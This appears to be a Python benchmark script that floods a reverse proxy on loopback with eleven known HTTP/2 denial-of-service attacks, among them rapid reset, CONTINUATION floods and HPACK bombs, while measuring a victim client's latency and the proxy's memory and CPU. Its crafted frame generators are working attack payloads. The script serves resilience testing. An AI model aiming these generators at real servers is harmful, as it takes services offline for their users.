"""Attacks by HTTP/2 with a victim beside them: what the victim sees, and what is left of the attack ten seconds later.

Usage: attacks.py PLIMSOLL [ATTACK…]        PLIMSOLL: the optimized program

Ten connections attack for SECONDS (5), each anew when it is ended; the victim asks 100 times a second by HTTP/1.1. Each attack has a
front-end of its own. All traffic stays on the loopback interface, ports 9711 to 9721.
"""

import asyncio
import multiprocessing
import os
import socket
import statistics
import sys
import tempfile
import time

import client
import front_ends
from scenarios import backends, failed, percentile
from used import cpu_s, memory_mib

SECONDS = float(os.environ.get("SECONDS", "5"))
CONNECTIONS = 10
front_ends.PLIMSOLL += '[admin]\naddress = "127.0.0.1:9721"\n'
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
# `GET http://a/x` of HPACK.
GET = b"\x82\x86\x44\x02/x\x41\x01a"


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def request(stream, flags=END_STREAM | END_HEADERS, head=GET):
    return frame(HEADERS, flags, stream, head)


def streams():
    return range(1, 1 << 20, 2)


def again(piece):
    while True:
        yield piece * 100


def rapid_reset():
    return (request(n) + frame(RST_STREAM, 0, n, b"\0\0\0\x08") for n in streams())


def made_you_reset():
    return (request(n) + frame(WINDOW_UPDATE, 0, n, b"\x7f\xff\xff\xff") for n in streams())


def continuations():
    yield frame(HEADERS, END_STREAM, 1, GET)
    yield from again(frame(CONTINUATION, 0, 1, b"\x00\x01a\x64" + b"x" * 100))


def settings():
    return again(frame(SETTINGS, 0, 0, b""))


def pings():
    return again(frame(PING, 0, 0, b"12345678"))


def priorities():
    return again(frame(PRIORITY, 0, 3, b"\0\0\0\0\x10"))


def empty_data():
    yield request(1, END_HEADERS)
    yield from again(frame(DATA, 0, 1, b""))


def hpack_bombs():
    bomb = GET + b"\x40\x01b\x7f\xa1\x1e" + b"y" * 4000 + b"\xbe" * 8000
    return (request(n, head=bomb) for n in streams())


def fields_without_names():
    return (request(n, head=GET + b"\0\0\0" * 4000) for n in streams())


def zero_windows():
    yield frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0")
    yield from (request(n) for n in streams())


def tiny_windows():
    yield frame(SETTINGS, 0, 0, b"\0\4\0\0\0\1")
    for n in streams():
        yield request(n) + b"".join(frame(WINDOW_UPDATE, 0, n, b"\0\0\0\1") for _ in range(20))


ALL = (rapid_reset, made_you_reset, continuations, settings, pings, priorities, empty_data, hpack_bombs, fields_without_names,
       zero_windows, tiny_windows)


def attack(frames, end):
    """One connection after the other, until this time."""
    # Attackers have machines of their own: the processors here are the front-end's first.
    os.nice(15)
    while time.monotonic() < end:
        try:
            with socket.create_connection(("127.0.0.1", front_ends.PORT), 2) as to:
                to.settimeout(0.2)
                to.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
                for piece in frames():
                    if time.monotonic() > end:
                        return
                    to.sendall(piece)
        except OSError:
            # It was ended, or nothing more of it is taken.
            time.sleep(0.001)


def attackers(frames):
    end = time.monotonic() + SECONDS
    processes = [multiprocessing.Process(target=attack, args=(frames, end)) for _ in range(CONNECTIONS)]
    [process.start() for process in processes]
    return processes


def measure(plimsoll, frames):
    with tempfile.TemporaryDirectory() as directory:
        with front_ends.FrontEnd("plimsoll least_connections", plimsoll, directory) as front_end:
            pid = front_end.process.pid
            asyncio.run(client.open_loop(100, 100))
            before = memory_mib(pid, "VmRSS")
            processes = attackers(frames)
            answers = asyncio.run(client.open_loop(100, int(100 * SECONDS)))
            [process.join(30) for process in processes]
            most = memory_mib(pid, "VmHWM") - before
            time.sleep(10)
            began, used = time.monotonic(), cpu_s(pid)
            time.sleep(2)
            share = (cpu_s(pid) - used) / (time.monotonic() - began)
    times = [answer.seconds * 1000 for answer in answers]
    lost = failed(answers, str(len(answers)))
    return (f"{', '.join(f'{key}: {value}' for key, value in lost.items() if value or 'failed' in key)}, "
            f"median {statistics.median(times):.1f} ms, p99 {percentile(times, 99):.1f} ms, "
            f"memory at most +{most:.0f} MiB, CPU ten seconds later {100 * share:.1f} %")


def main(plimsoll, chosen):
    of_name = {each.__name__: each for each in ALL}
    served = backends()
    try:
        for name in chosen or of_name:
            print(f"{name}: {measure(plimsoll, of_name[name])}", flush=True)
    finally:
        [backend.stop() for backend in served]


if __name__ == "__main__":
    if len(sys.argv) < 2:
        sys.exit(__doc__)
    main(sys.argv[1], sys.argv[2:])
